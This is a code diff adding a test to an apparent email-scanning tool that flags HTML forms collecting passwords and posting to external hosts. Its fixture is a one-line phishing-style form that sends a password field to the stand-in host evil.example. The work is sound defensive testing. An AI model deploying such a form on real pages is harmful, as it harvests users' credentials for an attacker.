@@ -203,3 +203,11 @@ async def test_new_domains_with_store_history(settings: Settings, tmp_path: Path
     an.history._size = None
     assert "URL_NEW_DOMAIN" not in await _scan(an, [url("https://fresh-site.example/x")])
     store.close()
+
+
+def test_html_forms_found_in_any_letter_case_and_skipped_without_tags() -> None:
+    from mailmoat.urlcheck.htmlforms import inspect_html
+
+    upper = '<FORM METHOD=POST ACTION="https://evil.example/x"><INPUT TYPE=PASSWORD NAME=pw></FORM>'
+    assert {i.kind for i in inspect_html(upper)} == {"password", "external-form"}
+    assert inspect_html("<p>type your password in the form below</p>") == []
